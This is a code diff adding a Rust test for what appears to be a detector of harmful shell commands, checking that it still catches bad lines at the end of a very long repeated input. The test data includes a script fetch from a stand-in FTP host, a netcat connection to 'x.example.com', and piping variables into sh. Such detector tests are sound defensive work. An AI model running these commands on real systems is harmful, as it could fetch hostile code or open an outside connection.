@@ -73,6 +73,20 @@ fn a_long_text_executes_an_answer_where_a_part_of_it_does() {
     }
 }
 
+/// No text takes the time of all its parts: of one that has more than a few counts what it names.
+#[test]
+fn a_text_of_many_parts_counts_as_what_it_names() {
+    let long = |line: &str| "echo $$A $$B | sh\n".repeat(200_000) + line;
+    assert!(!executed(&long("date\n"), HOST_DATA));
+    for line in [
+        "fetch-it ftp://x.example.com/i.sh",
+        "nc x.example.com 80",
+        "sh /sys/firmware/a",
+    ] {
+        assert!(executed(&long(line), HOST_DATA), "{line}");
+    }
+}
+
 #[test]
 fn many_written_files_are_looked_at_once() {
     for start in [
